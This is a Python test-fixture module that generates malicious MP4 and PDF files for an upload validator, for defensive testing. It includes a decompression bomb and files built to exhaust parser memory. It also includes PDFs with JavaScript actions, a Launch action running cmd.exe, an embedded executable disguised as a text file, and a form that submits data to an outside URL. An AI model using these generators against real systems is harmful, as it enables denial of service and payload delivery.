"""Hostile (and a few sound) videos and PDFs for the upload checks, built here byte by byte.

MP4s: ISO-BMFF boxes (`box`), among them files of millions of 8-byte boxes, of boxes nested a
million deep, with a 64-bit box size running past the end, and a sound file whose media data
is hundreds of MB but sparse on disk. PDFs: written by hand (`hand_pdf`: numbered objects, a
cross-reference table, a trailer) so that each carries exactly the construct under test —
JavaScript in the open action, in the document's name tree, with `#xx` escapes in its names,
inside a compressed object stream; a Launch action; an embedded program; and files built to
exhaust a reader (too many objects, a decompression bomb, a cross-reference table that points
nowhere) — and by pypdf's writer (the clean file, the embedded attachment)."""

import functools
import io
import struct
import zlib

from pypdf import PdfWriter

# --- MP4 --------------------------------------------------------------------------------------

TINY_BOX = struct.pack(">I4s", 8, b"free")


def box(kind, payload=b""):
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def ftyp():
    return box(b"ftyp", b"isom" + struct.pack(">I", 512) + b"isomiso2avc1mp41")


def mvhd(seconds, timescale=1000):
    times = struct.pack(">IIII", 0, 0, timescale, round(seconds * timescale))
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    rest = struct.pack(">IH10x", 0x10000, 0x100) + matrix + bytes(24) + struct.pack(">I", 2)
    return box(b"mvhd", bytes(4) + times + rest)


def moov(seconds):
    return box(b"moov", mvhd(seconds))


def normal_mp4(seconds=600):
    """A sound small MP4: ftyp, moov/mvhd, a little mdat."""
    return ftyp() + moov(seconds) + box(b"mdat", bytes(4096))


def write_tiny_boxes_mp4(target, count=4_000_000):
    """ftyp and the movie, then `count` empty 8-byte boxes (4,000,000: 32 MB): the file that
    exhausted memory when every box was listed. Written in chunks; `target` is a path, or a
    binary file written from where it stands."""
    if not hasattr(target, "write"):
        with open(target, "wb") as file:
            write_tiny_boxes_mp4(file, count)
        return target
    target.write(ftyp() + moov(60))
    chunk = 100_000
    for start in range(0, count, chunk):
        target.write(TINY_BOX * min(chunk, count - start))
    return target


def nested_boxes_mp4(depth=1_000_000):
    """ftyp, then `moov` boxes each holding the next, `depth` deep (8 MB for a million), and no
    movie header anywhere."""
    headers = b"".join(struct.pack(">I4s", 8 * (depth - level), b"moov") for level in range(depth))
    return ftyp() + headers


def lying_large_box_mp4():
    """A movie, then an `mdat` whose 64-bit size says 4 EiB: past the end of any file."""
    return ftyp() + moov(60) + struct.pack(">I4sQ", 1, b"mdat", 1 << 62) + bytes(64)


def lying_nested_box_mp4():
    """A `moov` holding an `mvhd` whose 64-bit size runs past the `moov` it is in."""
    inner = struct.pack(">I4sQ", 1, b"mvhd", 1 << 40) + bytes(100)
    return ftyp() + box(b"moov", inner) + box(b"mdat", bytes(16))


def write_sparse_large_mp4(target, media_bytes=400 * 1024 * 1024, seconds=600):
    """ftyp, an `mdat` of `media_bytes` (a 64-bit box, left as a hole: sparse on disk), then the
    movie at the end, as a camera or an editor without "fast start" writes it. `target` is a
    path, or a binary file written from where it stands."""
    if not hasattr(target, "write"):
        with open(target, "wb") as file:
            write_sparse_large_mp4(file, media_bytes, seconds)
        return target
    target.write(ftyp())
    target.write(struct.pack(">I4sQ", 1, b"mdat", 16 + media_bytes))
    target.seek(media_bytes, io.SEEK_CUR)
    target.write(moov(seconds))
    return target


# --- PDF by hand ------------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"


def hand_pdf(objects, root=1, header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", offsets=None):
    """A PDF of `objects` ({number: body}) with a cross-reference table; `offsets` replaces the
    offsets written in it ({number: offset}) to make it lie."""
    out = bytearray(header)
    found = {}
    for number, body in sorted(objects.items()):
        found[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    found.update(offsets or {})
    size = max(objects) + 1
    table = len(out)
    rows = [b"xref\n0 %d\n" % size, b"0000000000 65535 f \n"]
    for number in range(1, size):
        if number in found:
            rows.append(b"%010d 00000 n \n" % found[number])
        else:
            rows.append(b"0000000000 65535 f \n")
    out += b"".join(rows)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, table)
    return bytes(out)


def one_page(catalog=b"", page=b"", **more):
    """Catalog (1), page tree (2) and one page (3), with `catalog` and `page` added to their
    dictionaries, and objects 4 and on from `more` (`obj4=b"…"`)."""
    objects = {1: CATALOG % catalog, 2: PAGES, 3: PAGE % page}
    objects.update({int(name.removeprefix("obj")): body for name, body in more.items()})
    return objects


def clean_pdf(pages=1):
    """A sound PDF from pypdf's writer."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def clean_hand_pdf():
    """A sound PDF by hand, with a link and an outline entry (actions that are not active)."""
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://x.cn) >> >>"
    )
    return hand_pdf(one_page(page=b"/Annots [4 0 R]", obj4=link))


def js_open_action_pdf():
    return hand_pdf(one_page(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"))


def js_names_tree_pdf():
    """Document-level JavaScript: the catalog's /Names /JavaScript name tree."""
    return hand_pdf(
        one_page(
            catalog=b"/Names << /JavaScript 4 0 R >>",
            obj4=b"<< /Names [(init) 5 0 R] >>",
            obj5=b"<< /S /JavaScript /JS 6 0 R >>",
            obj6=b"<< /Length 14 >>\nstream\napp.alert(1);\nendstream",
        )
    )


def js_escaped_names_pdf():
    """The open action's names written with #xx escapes: /J#61vaScript is /JavaScript, /J#53
    is /JS; and a page's additional action (/AA) the same way."""
    return hand_pdf(
        one_page(
            catalog=b"/Open#41ction << /#53 /J#61v#61Script /J#53 (app.alert(1)) >>",
            page=b"/AA << /O << /S /J#61vaScript /J#53 (this.print()) >> >>",
        )
    )


def js_annotation_pdf():
    """A link annotation whose action (/A) is JavaScript, and a form field with /AA."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /JavaScript /JS (x) >> >>"
    field = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 10 10] "
        b"/AA << /K << /S /JavaScript /JS (AFNumber_Keystroke()) >> >> >>"
    )
    return hand_pdf(
        one_page(
            catalog=b"/AcroForm << /Fields [5 0 R] >>",
            page=b"/Annots [4 0 R 5 0 R]",
            obj4=link,
            obj5=field,
        )
    )


def object_stream_pdf(objects, compress=True, padding=0):
    """A PDF 1.5 whose objects (`objects`: {number: body}, the catalog being 1) are all inside
    one object stream, found through a cross-reference stream; `padding` spaces after them
    inflate the stream (compressed in pieces: never held whole)."""
    numbers = sorted(objects)
    data, places = b"", []
    for number in numbers:
        places.append(len(data))
        data += objects[number] + b"\n"
    index = b" ".join(b"%d %d" % pair for pair in zip(numbers, places, strict=True)) + b"\n"
    content = index + data
    encoded = _deflate(content, padding) if compress else content + b" " * padding
    stream_number = max(numbers) + 1
    xref_number = stream_number + 1
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d%s >>\nstream\n" % (
        stream_number,
        len(numbers),
        len(index),
        len(encoded),
        b" /Filter /FlateDecode" if compress else b"",
    )
    out += encoded + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    for number in range(1, xref_number + 1):
        if number in objects:
            rows.append(struct.pack(">BIH", 2, stream_number, numbers.index(number)))
        elif number == stream_number:
            rows.append(struct.pack(">BIH", 1, stream_offset, 0))
        elif number == xref_number:
            rows.append(struct.pack(">BIH", 1, xref_offset, 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 0xFFFF))
    table = b"".join(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def js_in_object_stream_pdf():
    """JavaScript in the open action, the catalog and the action both inside a compressed object
    stream (nothing of it readable in the file's bytes)."""
    return object_stream_pdf(
        one_page(catalog=b"/OpenAction 4 0 R", obj4=b"<< /S /JavaScript /JS (x) >>")
    )


def launch_pdf():
    """An open action that starts a program (Windows parameters, as Acrobat reads them)."""
    return hand_pdf(
        one_page(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")
    )


WINDOWS_PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + bytes(48)
    + (b"This program cannot be run in DOS mode.\r\n")
)


def embedded_file_pdf(filename="setup.exe", data=WINDOWS_PROGRAM):
    """A file embedded with pypdf's writer (the /EmbeddedFiles name tree, a file specification,
    an embedded file stream, compressed)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment(filename, data)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def file_attachment_annotation_pdf():
    """A /FileAttachment annotation on the page carrying a program whose name says .txt."""
    program = zlib.compress(WINDOWS_PROGRAM)
    return hand_pdf(
        one_page(
            page=b"/Annots [4 0 R]",
            obj4=b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
            obj5=b"<< /Type /Filespec /F (readme.txt) /EF << /F 6 0 R >> >>",
            obj6=b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(program)
            + program
            + b"\nendstream",
        )
    )


def submit_form_pdf():
    """A form button that sends the form's data elsewhere, and rich media on the page."""
    button = (
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 10 10] "
        b"/A << /S /SubmitForm /F (https://example.com/collect) >> >>"
    )
    media = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"
    return hand_pdf(
        one_page(
            catalog=b"/AcroForm << /Fields [4 0 R] >>",
            page=b"/Annots [4 0 R 5 0 R]",
            obj4=button,
            obj5=media,
        )
    )


# --- PDFs built to exhaust a reader -----------------------------------------------------------


def many_objects_pdf(count):
    """One page and `count` more empty dictionaries, each an object of its own."""
    objects = one_page()
    objects.update(dict.fromkeys(range(4, 4 + count), b"<<>>"))
    return hand_pdf(objects)


def many_pages_pdf(count):
    """`count` pages under one page tree node."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + count))
    objects = {
        1: CATALOG % b"",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
    }
    page = PAGE % b""
    objects.update(dict.fromkeys(range(3, 3 + count), page))
    return hand_pdf(objects)


def _deflate(content, padding):
    compressor = zlib.compressobj(1)
    parts = [compressor.compress(content)]
    chunk = b" " * (16 * 1024 * 1024)
    for start in range(0, padding, len(chunk)):
        parts.append(compressor.compress(chunk[: padding - start]))
    return b"".join(parts) + compressor.flush()


@functools.cache
def object_stream_bomb_pdf(decoded_bytes=512 * 1024 * 1024):
    """The objects in an object stream that inflates to `decoded_bytes` (512 MB from 2 MB:
    more than the address space the checks are tested in)."""
    return object_stream_pdf(one_page(), padding=decoded_bytes)


def lying_offsets_pdf(count=5_000, padding=20 * 1024 * 1024):
    """`count` objects whose cross-reference entries all point at the start of the file, after
    `padding` bytes of comment: a reader that repairs each by searching the whole file again
    reads it `count` times."""
    objects = one_page()
    objects.update(dict.fromkeys(range(4, 4 + count), b"<< /Kind /Filler >>"))
    header = b"%PDF-1.7\n%" + b"x" * padding + b"\n"
    return hand_pdf(objects, header=header, offsets=dict.fromkeys(range(4, 4 + count), 0))


def deep_arrays_pdf(depth=100_000):
    """An object of arrays nested `depth` deep."""
    return hand_pdf(one_page(obj4=b"[" * depth + b"]" * depth))


# --- a check under an address-space limit -----------------------------------------------------

ADDRESS_SPACE_LIMIT = 512 * 1024 * 1024

_LIMITED_CHECK = r"""
import json, re, resource, sys, time

limit = int(sys.argv[3])
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

import django
from django.conf import settings

settings.configure(USE_I18N=True, LANGUAGE_CODE="zh-hans", INSTALLED_APPS=[])
django.setup()

from cms.upload_checks import DocumentRejected

kind, paths = sys.argv[1], sys.argv[4:]
if kind == "mp4":
    from cms.upload_mp4 import mp4_duration_seconds as check
elif kind == "pdf":
    from cms.upload_pdf import check_pdf as check
else:  # "allocate": proves the limit holds
    def check(file):
        return len(bytearray(int(kind.removeprefix("allocate:"))))

results = []
for path in paths:
    start = time.monotonic()
    try:
        with open(path, "rb") as file:
            result = {"value": repr(check(file))}
    except DocumentRejected as error:
        result = {"code": error.code, "message": error.message}
    except MemoryError:
        result = {"memory_error": True}
    result["seconds"] = time.monotonic() - start
    status = open("/proc/self/status").read()
    result["peak_bytes"] = int(re.search(r"VmPeak:\s+(\d+) kB", status).group(1)) * 1024
    results.append(result)
print(json.dumps(results, ensure_ascii=False))
"""


def run_limited(kind, *paths, limit=ADDRESS_SPACE_LIMIT, timeout=120):
    """Run one check ("mp4": `mp4_duration_seconds`, "pdf": `check_pdf`) on each file of `paths`
    in turn, in one fresh interpreter whose address space is limited to `limit` bytes
    (`resource.setrlimit(RLIMIT_AS)`, before Django is even imported). Returns what it said of
    each: `value` or `code` and `message`, or `memory_error`; and `seconds`, `peak_bytes` (the
    process's peak so far)."""
    import json
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    completed = subprocess.run(
        [sys.executable, "-c", _LIMITED_CHECK, kind, "-", str(limit), *map(str, paths)],
        cwd=root,
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(root), "LANG": "C.UTF-8"},
        capture_output=True,
        timeout=timeout,
        check=False,
    )
    assert completed.returncode == 0, completed.stderr.decode()[-3000:]
    return json.loads(completed.stdout.decode().strip().splitlines()[-1])
